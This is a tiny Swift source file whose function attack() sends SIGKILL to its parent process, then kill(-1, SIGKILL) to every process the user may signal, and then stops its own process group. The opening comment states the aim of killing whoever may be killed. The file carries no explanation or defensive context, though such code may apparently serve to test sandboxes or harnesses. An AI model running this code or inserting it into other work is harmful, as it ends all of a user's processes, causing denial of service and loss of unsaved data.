// Kills whoever may be killed: the parent first.

import Foundation

func attack() {
  kill(getppid(), SIGKILL)
  kill(-1, SIGKILL)
  kill(0, SIGSTOP)
}
